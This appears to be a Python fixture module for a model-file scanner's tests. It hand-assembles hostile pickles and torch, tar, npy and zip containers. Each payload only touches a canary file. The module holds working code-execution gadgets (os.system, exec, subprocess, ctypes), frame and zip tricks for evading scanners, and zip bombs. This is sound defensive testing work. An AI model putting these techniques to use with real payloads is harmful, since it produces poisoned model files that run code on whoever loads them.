"""Builders of hostile model files, one per attack class in reference/model-files.md.

Every builder is `build(dest: Path, canary: Path) -> Path`: it writes `dest` and
returns it. Every payload, IF it were ever executed, would create `canary`
(tests assert it never appears). Pickles are assembled by hand from opcodes;
nothing here ever loads one. `HOSTILE` maps a name to (builder, expected verdict).
"""
from __future__ import annotations

import io
import marshal
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

# --- a tiny pickle assembler -------------------------------------------------------


def s(text: str) -> bytes:
    """BINUNICODE string."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def b(raw: bytes) -> bytes:
    """BINBYTES (protocol 3)."""
    return b"B" + struct.pack("<I", len(raw)) + raw


def i(n: int) -> bytes:
    return b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def lst(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def call(callee: bytes, *args: bytes) -> bytes:
    return callee + tup(*args) + b"R"


def pickle_of(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def shell(canary: Path) -> str:
    return f"touch {canary}"


def python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def os_system(canary: Path) -> bytes:
    return pickle_of(call(glob("os", "system"), s(shell(canary))))


def benign_data_pkl(*, numel: int = 4) -> bytes:
    """{'w': a float32 tensor of `numel` elements in storage '0'}, as torch writes it."""
    storage = tup(s("storage"), glob("torch", "FloatStorage"), s("0"), s("cpu"), i(numel)) + b"Q"
    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), storage, i(0), tup(i(numel)), tup(i(1)),
                  b"\x89", call(glob("collections", "OrderedDict")))
    return pickle_of(b"}" + s("w") + tensor + b"s")


def torch_zip(dest: Path, entries: list[tuple[str, bytes]]) -> Path:
    """A stored zip with exactly these entries, in order (duplicates allowed)."""
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            z.writestr(name, data)
    return dest


def benign_zip_entries(data_pkl: bytes | None = None) -> list[tuple[str, bytes]]:
    return [("archive/data.pkl", data_pkl or benign_data_pkl()),
            ("archive/byteorder", b"little"),
            ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)),
            ("archive/version", b"3\n")]


# --- gadgets: each a pickle that calls something that would create the canary ----------

def _gadget(body_of):
    def build(dest: Path, canary: Path) -> Path:
        dest.write_bytes(pickle_of(body_of(canary), protocol=3))
        return dest
    build.__doc__ = "a pickle calling a code-execution gadget"
    return build


GADGETS = {
    "os_system": lambda c: call(glob("os", "system"), s(shell(c))),
    "posix_system": lambda c: call(glob("posix", "system"), s(shell(c))),
    "builtins_exec": lambda c: call(glob("builtins", "exec"), s(python(c))),
    "builtins_eval": lambda c: call(glob("__builtin__", "eval"), s(f"__import__('os').system({shell(c)!r})")),
    "runpy_run_code": lambda c: call(glob("runpy", "_run_code"), s(python(c)), b"}"),
    "subprocess_call": lambda c: call(glob("subprocess", "call"), lst(s("touch"), s(str(c)))),
    "pty_spawn": lambda c: call(glob("pty", "spawn"), lst(s("sh"), s("-c"), s(shell(c)))),
    "timeit": lambda c: call(glob("timeit", "timeit"), s(python(c))),
    "profile_run": lambda c: call(glob("profile", "run"), s(python(c))),
    "cprofile_run": lambda c: call(glob("cProfile", "run"), s(python(c))),
    "pdb_run": lambda c: call(glob("pdb", "run"), s(python(c))),
    "torch_collect_env": lambda c: call(glob("torch.utils.collect_env", "run"), s(shell(c))),
    "pip_main": lambda c: call(glob("pip", "main"), lst(s("--log"), s(str(c)), s("list"))),
    "urllib_exfil": lambda c: call(glob("urllib.request", "urlretrieve"), s("file:///etc/hostname"), s(str(c))),
    "nested_pickle_loads": lambda c: call(glob("_pickle", "loads"), b(os_system(c))),
    "pkgutil_resolve_name": lambda c: call(call(glob("pkgutil", "resolve_name"), s("os:system")), s(shell(c))),
    "importlib_getattr_static": lambda c: call(
        call(glob("inspect", "getattr_static"), call(glob("importlib", "import_module"), s("os")), s("system")),
        s(shell(c))),
    "operator_methodcaller": lambda c: call(
        call(glob("_operator", "methodcaller"), s("system"), s(shell(c))),
        call(glob("importlib", "import_module"), s("os"))),
    "operator_attrgetter": lambda c: call(
        call(call(glob("operator", "attrgetter"), s("system")), call(glob("importlib", "import_module"), s("os"))),
        s(shell(c))),
    "marshal_function_type": lambda c: call(
        call(glob("types", "FunctionType"),
             call(glob("marshal", "loads"), b(marshal.dumps(compile(python(c), "<p>", "exec")))), b"}")),
    "ctypes_system": lambda c: call(
        call(glob("builtins", "getattr"), call(glob("ctypes", "CDLL"), b"N"), s("system")), b(shell(c).encode())),
    "asyncio_subprocess": lambda c: call(
        glob("asyncio", "run"), call(glob("asyncio.subprocess", "create_subprocess_shell"), s(shell(c)))),
}


# --- opcode-level tricks ------------------------------------------------------------

def stack_global_memo_decoys(dest: Path, canary: Path) -> Path:
    """STACK_GLOBAL operands memoised early, then decoy strings right before the opcode."""
    body = (s("os") + b"\x94" + s("system") + b"\x94" + b"00"          # memo 0, 1; popped
            + s("collections") + s("OrderedDict") + b"00"              # decoys a naive scanner pairs up
            + b"h\x00h\x01" + b"\x93" + s(shell(canary)) + b"\x85R")
    dest.write_bytes(pickle_of(body, protocol=4))
    return dest


def stack_global_string_operands(dest: Path, canary: Path) -> Path:
    """STACK_GLOBAL operands as protocol-0 STRING / BINSTRING opcodes."""
    body = (b"S'os'\n" + b"U\x06system" + b"\x93" + b"S'" + shell(canary).encode() + b"'\n" + b"\x85R")
    dest.write_bytes(pickle_of(body, protocol=4))
    return dest


def inst_opcode(dest: Path, canary: Path) -> Path:
    dest.write_bytes(b"(S'" + shell(canary).encode() + b"'\nios\nsystem\n.")
    return dest


def obj_opcode(dest: Path, canary: Path) -> Path:
    dest.write_bytes(b"(cos\nsystem\nS'" + shell(canary).encode() + b"'\no.")
    return dest


def dotted_name(dest: Path, canary: Path) -> Path:
    """At protocol >= 4 CPython resolves 'a.b.c' attribute by attribute: numpy -> os.system."""
    body = s("numpy") + s("testing._private.utils.os.system") + b"\x93" + s(shell(canary)) + b"\x85R"
    dest.write_bytes(pickle_of(body, protocol=4))
    return dest


def ext_opcode(dest: Path, canary: Path) -> Path:
    """EXT1: the callable comes from the loading process's copyreg extension registry."""
    dest.write_bytes(pickle_of(b"\x82\x01" + s(shell(canary)) + b"\x85R"))
    return dest


def frame_tricks(dest: Path, canary: Path) -> Path:
    """FRAME lengths that lie (too short, nested) around a payload; CPython runs it anyway."""
    frame = b"\x95" + struct.pack("<Q", 1)
    body = frame + b"}" + frame + call(glob("os", "system"), s(shell(canary))) + b"0"
    dest.write_bytes(pickle_of(body, protocol=4))
    return dest


def memo_expansion(dest: Path, canary: Path) -> Path:
    """A list that doubles 60 times through the memo (2**60 leaves), then a payload."""
    body = b"]\x94"
    for n in range(60):
        body += b"(h" + bytes([n]) + b"h" + bytes([n]) + b"l\x94"
    body += b"0" + call(glob("os", "system"), s(shell(canary)))
    dest.write_bytes(pickle_of(body, protocol=4))
    return dest


def memo_huge_index(dest: Path, canary: Path) -> Path:
    """LONG_BINPUT at index 2**32-1: CPython sizes its memo array by the index."""
    body = b"}" + b"r" + struct.pack("<I", 0xFFFFFFFF) + b"0" + call(glob("os", "system"), s(shell(canary)))
    dest.write_bytes(pickle_of(body, protocol=2))
    return dest


def broken_after_payload(dest: Path, canary: Path) -> Path:
    """The payload runs, then the stream turns to garbage (no STOP)."""
    dest.write_bytes(b"\x80\x02" + call(glob("os", "system"), s(shell(canary))) + b"\xff\xfe garbage")
    return dest


def several_pickles(dest: Path, canary: Path) -> Path:
    """A harmless pickle, then the payload in a second one."""
    dest.write_bytes(pickle_of(b"}") + os_system(canary))
    return dest


def plain_pickle_named_safetensors(dest: Path, canary: Path) -> Path:
    dest = dest.with_suffix(".safetensors")
    dest.write_bytes(os_system(canary))
    return dest


# --- container-level tricks -----------------------------------------------------------

def zip_hidden_pickle(dest: Path, canary: Path) -> Path:
    """A benign data.pkl; the payload sits in an entry named like a storage."""
    return torch_zip(dest, benign_zip_entries() + [("archive/data/1", os_system(canary))])


def zip_name_mismatch(dest: Path, canary: Path) -> Path:
    """The central directory says archive/data.pkl; its local header says archive/data.txt."""
    torch_zip(dest, benign_zip_entries(os_system(canary)))
    raw = bytearray(dest.read_bytes())
    at = raw.index(b"PK\x03\x04")  # the first local header is data.pkl's
    name_at = at + 30
    assert raw[name_at:name_at + 16] == b"archive/data.pkl"
    raw[name_at:name_at + 16] = b"archive/data.txt"
    dest.write_bytes(bytes(raw))
    return dest


def zip_duplicate_entries(dest: Path, canary: Path) -> Path:
    """Two archive/data.pkl: torch reads the first (payload), zipfile the last (benign)."""
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return torch_zip(dest, [("archive/data.pkl", os_system(canary))] + benign_zip_entries())


def zip_bad_crc(dest: Path, canary: Path) -> Path:
    """The payload's CRC is wrong, so Python's zipfile refuses to read it; torch does not care."""
    torch_zip(dest, benign_zip_entries(os_system(canary)))
    return _corrupt_first_crc(dest)


def _corrupt_first_crc(dest: Path) -> Path:
    raw = bytearray(dest.read_bytes())
    for sig, crc_at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = raw.index(sig)
        raw[at + crc_at:at + crc_at + 4] = b"\xde\xad\xbe\xef"
    dest.write_bytes(bytes(raw))
    return dest


def zip_encrypted_flag(dest: Path, canary: Path) -> Path:
    """The payload entry is flagged encrypted in both headers."""
    torch_zip(dest, benign_zip_entries(os_system(canary)))
    raw = bytearray(dest.read_bytes())
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.index(sig)
        raw[at + flag_at] |= 0x01
    dest.write_bytes(bytes(raw))
    return dest


def legacy_payload_in_later_pickle(dest: Path, canary: Path) -> Path:
    """Legacy layout (magic, protocol, sys_info, object, keys, storages); payload in sys_info."""
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    sys_info = pickle_of(b"}" + s("little_endian") + call(glob("os", "system"), s(shell(canary))) + b"s")
    dest.write_bytes(magic + pickle_of(b"M\xe9\x03") + sys_info + benign_data_pkl()
                     + pickle_of(lst(s("0"))) + struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4))
    return dest


def tar_checkpoint(dest: Path, canary: Path) -> Path:
    """The oldest torch format: a tar with sys_info, pickle, storages and tensors members."""
    members = {"sys_info": pickle_of(b"}"), "pickle": os_system(canary),
               "storages": pickle_of(i(0)), "tensors": pickle_of(i(0))}
    with tarfile.open(dest, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return dest


def seven_zip_wrapped(dest: Path, canary: Path) -> Path:
    """A 7z signature header followed by a pickle payload we cannot see through."""
    dest.write_bytes(b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + os_system(canary))
    return dest


def npy_object_array(dest: Path, canary: Path) -> Path:
    """A .npy whose object dtype means numpy unpickles the payload after the header."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    dest.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + os_system(canary))
    return dest


def png_named_pt(dest: Path, canary: Path) -> Path:
    dest.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    return dest


def truncated_pickle(dest: Path, canary: Path) -> Path:
    """A benign checkpoint pickle cut in half: nothing dangerous ran before the cut."""
    dest.write_bytes(benign_data_pkl()[:40])
    return dest


# --- FRAME tricks: pickle.py and _pickle.c read other bytes (see pickle_scan.FrameCheck) ------
# pickle.py's _Unframer refuses an argument that crosses a frame's end and reads on past a FRAME
# longer than the data; _pickle.c stops at the latter, and reading a file object (torch.load's
# io.BytesIO of data.pkl) it throws away the rest of a frame a read does not fit in, and reads
# the next bytes after the frame instead. Cases after trailofbits/fickling's frame tests.

FRAME = b"\x95"


def frame(length: int) -> bytes:
    return FRAME + struct.pack("<Q", length)


def binbytes_header(length: int) -> bytes:
    return b"B" + struct.pack("<I", length)


def frame_overrun(dest: Path, canary: Path) -> Path:
    """A FRAME claiming far more than the file: _pickle.c stops, pickle.py reads on and runs the payload."""
    dest.write_bytes(b"\x80\x04" + frame(1 << 40) + call(glob("os", "system"), s(shell(canary))) + b".")
    return dest


def frame_straddle_binbytes(dest: Path, canary: Path, *, pad: bool = True) -> Path:
    """BINBYTES declares 0x107 bytes in a frame holding 2: read byte by byte the payload is data;
    _pickle.c reading a file takes the length from after the frame (1) and runs the payload.
    `pad` pushes the frame past _pickle.c's 128 KiB prefetch, so a real file diverges too."""
    hidden = call(glob("os", "system"), s(shell(canary)))
    body = b"\x80\x05" + b"N"
    if pad:
        body += b"V" + b"a" * (8192 * 16 - 17) + b"\n0"
    body += (b"(" + frame(2) + b"B\x07" + b"\x01\x00\x00" + b"\x00\x00"
             + (hidden + b"(").ljust(256 + 5, b"N") + b"1.")
    dest.write_bytes(body)
    return dest


def frame_straddle_global(dest: Path, canary: Path) -> Path:
    """The frame ends inside GLOBAL's module line: byte by byte it names `macos.system`;
    _pickle.c reading a file drops 'mac' and imports `os.system`."""
    dest.write_bytes(b"\x80\x04" + frame(4) + b"cmacos\nsystem\n" + s(shell(canary)) + b"\x85R.")
    return dest


def frame_nested(dest: Path, canary: Path) -> Path:
    """A FRAME inside a FRAME: byte by byte, BINBYTES swallows the payload; _pickle.c reading a
    file reads the inner frame from after the outer one, skipping BINBYTES, and runs it."""
    payload = call(glob("os", "system"), s(shell(canary))) + b"0"
    tail = payload + b"N."
    inner = binbytes_header(len(payload))
    outer = b"N0" + frame(len(tail)) + inner
    dest.write_bytes(b"\x80\x04" + frame(len(outer)) + outer + tail)
    return dest


def frame_past_stop(dest: Path, canary: Path) -> Path:
    """The first pickle stops 128 KiB before its FRAME ends. Byte by byte the next pickle is a
    decoy whose BINBYTES swallows the payload; pickle.py (and _pickle.c for a frame this large)
    consumed the frame, so their next load starts after it: at the payload."""
    payload = os_system(canary)
    filler = b"\x00" * (8192 * 16)
    decoy = b"\x80\x02" + binbytes_header(len(filler) + len(payload))
    framed = b"N." + decoy + filler
    dest.write_bytes(b"\x80\x04" + frame(len(framed)) + framed + payload + b"0N.")
    return dest


def zip_frame_straddle(dest: Path, canary: Path) -> Path:
    """data.pkl with the BINBYTES frame trick: torch.load reads it through io.BytesIO, which has
    no peek(), so _pickle.c takes the diverging reading however small the frame."""
    data_pkl = frame_straddle_binbytes(dest.with_suffix(".tmp"), canary, pad=False).read_bytes()
    dest.with_suffix(".tmp").unlink()
    return torch_zip(dest, benign_zip_entries(data_pkl))


# --- zip bombs: a 4 MB torch zip whose data.pkl inflates to 4 GiB -----------------------------

BOMB_UNIT = b"N0" * (1 << 19)  # 1 MiB: push None, pop it


def deflate_repeated(head: bytes, unit: bytes, count: int) -> bytes:
    """Raw deflate of head + unit * count without compressing `count` units: after a full flush
    the compressor keeps no history, so each unit compresses to the same bytes, repeated here."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    assert block == c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    return first + block * (count - 1) + block + c.flush()


def raw_zip(dest: Path, entries: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A zip from (name, stored bytes, method, crc, declared size) exactly as given; sizes past
    4 GiB get a zip64 extra field. Nothing is checked: the point is to lie."""
    out = bytearray()
    central = bytearray()
    for name, raw, method, crc, size in entries:
        offset = len(out)
        big = size >= 0xFFFFFFFF or len(raw) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, len(raw)) if big else b""
        usize, csize = (0xFFFFFFFF, 0xFFFFFFFF) if big else (size, len(raw))
        encoded = name.encode()
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 45, 0, method, 0, 0, crc, csize, usize,
                           len(encoded), len(extra)) + encoded + extra + raw
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 45, 45, 0, method, 0, 0, crc, csize, usize,
                               len(encoded), len(extra), 0, 0, 0, 0, offset) + encoded + extra
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(out), 0)
    dest.write_bytes(bytes(out + central + eocd))
    return dest


def _bomb(dest: Path, canary: Path, *, declared: int | None) -> Path:
    head = b"\x80\x02" + call(glob("os", "system"), s(shell(canary))) + b"0"
    units = 4096
    deflated = deflate_repeated(head, BOMB_UNIT, units)
    size = len(head) + units * len(BOMB_UNIT)
    others = [(name, data, 0, zlib.crc32(data), len(data)) for name, data in benign_zip_entries()[1:]]
    return raw_zip(dest, [("archive/data.pkl", deflated, 8, 0, size if declared is None else declared)] + others)


def zip_bomb(dest: Path, canary: Path) -> Path:
    """data.pkl deflated 1000:1 to 4 MB, declaring its 4 GiB (zip64) honestly."""
    return _bomb(dest, canary, declared=None)


def zip_bomb_lying_header(dest: Path, canary: Path) -> Path:
    """The same bomb declaring 1 KiB: only a running cap on inflating stops it."""
    return _bomb(dest, canary, declared=1024)


HOSTILE = {
    **{f"gadget_{name}": (_gadget(body), "dangerous") for name, body in GADGETS.items()},
    "stack_global_memo_decoys": (stack_global_memo_decoys, "dangerous"),
    "stack_global_string_operands": (stack_global_string_operands, "dangerous"),
    "inst_opcode": (inst_opcode, "dangerous"),
    "obj_opcode": (obj_opcode, "dangerous"),
    "dotted_name": (dotted_name, "dangerous"),
    "ext_opcode": (ext_opcode, "dangerous"),
    "frame_tricks": (frame_tricks, "dangerous"),
    "memo_expansion": (memo_expansion, "dangerous"),
    "memo_huge_index": (memo_huge_index, "dangerous"),
    "broken_after_payload": (broken_after_payload, "dangerous"),
    "several_pickles": (several_pickles, "dangerous"),
    "plain_pickle_named_safetensors": (plain_pickle_named_safetensors, "dangerous"),
    "zip_hidden_pickle": (zip_hidden_pickle, "dangerous"),
    "zip_name_mismatch": (zip_name_mismatch, "dangerous"),
    "zip_duplicate_entries": (zip_duplicate_entries, "dangerous"),
    "zip_bad_crc": (zip_bad_crc, "dangerous"),
    "zip_encrypted_flag": (zip_encrypted_flag, "dangerous"),
    "legacy_payload_in_later_pickle": (legacy_payload_in_later_pickle, "dangerous"),
    "tar_checkpoint": (tar_checkpoint, "dangerous"),
    "seven_zip_wrapped": (seven_zip_wrapped, "dangerous"),
    "npy_object_array": (npy_object_array, "dangerous"),
    "frame_overrun": (frame_overrun, "dangerous"),
    "frame_straddle_binbytes": (frame_straddle_binbytes, "dangerous"),
    "frame_straddle_global": (frame_straddle_global, "dangerous"),
    "frame_nested": (frame_nested, "dangerous"),
    "frame_past_stop": (frame_past_stop, "dangerous"),
    "zip_frame_straddle": (zip_frame_straddle, "dangerous"),
    "zip_bomb": (zip_bomb, "dangerous"),
    "zip_bomb_lying_header": (zip_bomb_lying_header, "dangerous"),
    "png_named_pt": (png_named_pt, "unreadable"),
    "truncated_pickle": (truncated_pickle, "unreadable"),
}


# --- not hostile, but outside the allowlist: "suspicious" --------------------------------

_FAKE_LIGHTNING = '''
class ModelCheckpoint:
    def __init__(self, best):
        self.monitor = "val/loss"
        self.best_model_score = best
'''


def lightning_like_checkpoint(dest: Path, workdir: Path) -> tuple[Path, dict]:
    """A torch.save'd checkpoint holding an instance and the class of `fake_lightning.ModelCheckpoint`
    (as old Lightning did). The module exists on sys.path only while saving.
    Returns (path, {dotted name: the torch tensor saved under it})."""
    import importlib
    import sys

    import numpy as np
    import torch

    (workdir / "fake_lightning.py").write_text(_FAKE_LIGHTNING)
    sys.path.insert(0, str(workdir))
    try:
        module = importlib.import_module("fake_lightning")
        weight = torch.arange(6, dtype=torch.float32).reshape(2, 3)
        best = torch.tensor(0.25)
        callback = module.ModelCheckpoint(best)
        torch.save({"state_dict": {"model.w": weight}, "global_step": np.int64(1234),
                    "callbacks": {module.ModelCheckpoint: {"best_model_score": best}},
                    "checkpoint_callback": callback}, dest)
    finally:
        sys.path.remove(str(workdir))
        sys.modules.pop("fake_lightning", None)
    return dest, {"state_dict.model.w": weight,
                  "callbacks.fake_lightning.ModelCheckpoint.best_model_score": best,
                  "checkpoint_callback.best_model_score": best}
